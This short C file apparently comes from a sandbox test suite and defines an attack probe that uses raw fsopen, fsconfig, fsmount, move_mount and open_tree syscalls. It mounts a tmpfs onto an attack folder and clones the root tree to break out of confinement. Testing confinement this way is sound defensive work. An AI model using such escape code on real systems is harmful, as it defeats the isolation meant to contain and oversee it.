/* reaches outside the walls: kernel, fsopen */
#include "attack.h"

static void reach(void)
{
    const int fs = (int)syscall(430, "tmpfs", 0);
    syscall(431, fs, 6, NULL, NULL, 0);
    const int mount = (int)syscall(432, fs, 0, 0);
    syscall(429, mount, "", AT_FDCWD, ATTACK_FOLDER, 4);
    syscall(428, AT_FDCWD, "/", 1);
}
